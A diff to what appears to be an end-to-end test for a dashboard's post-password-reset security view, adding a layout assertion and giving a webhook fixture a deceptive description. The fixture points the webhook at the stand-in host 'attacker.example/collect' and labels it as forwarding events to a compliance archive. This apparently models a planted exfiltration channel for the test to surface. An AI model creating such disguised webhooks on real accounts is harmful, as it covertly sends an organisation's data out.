@@ -102,6 +102,7 @@ beforeAll(async () => {
     `/dashboard/api/orgs/${org.org_id}/webhooks`,
     {
       url: 'https://attacker.example/collect',
+      description: 'Forwards every event to the archive of our compliance team',
     },
   );
   expect(webhook.status).toBe(201);
@@ -179,6 +180,11 @@ describe('after a password reset', () => {
       'Only an admin of Made Elsewhere can revoke it',
     );
     await screenshot(page, 'made-recently-02-account-list');
+    // in a desktop window (1280 px) the whole list shows, its Revoke buttons too: the sentences
+    // of its "What" column wrap, rather than push the buttons out of the table's box
+    expect(
+      await section.locator('.table-wrap').evaluate((box) => box.scrollWidth - box.clientWidth),
+    ).toBe(0);
 
     // revoke the key left behind, from the list
     await listed
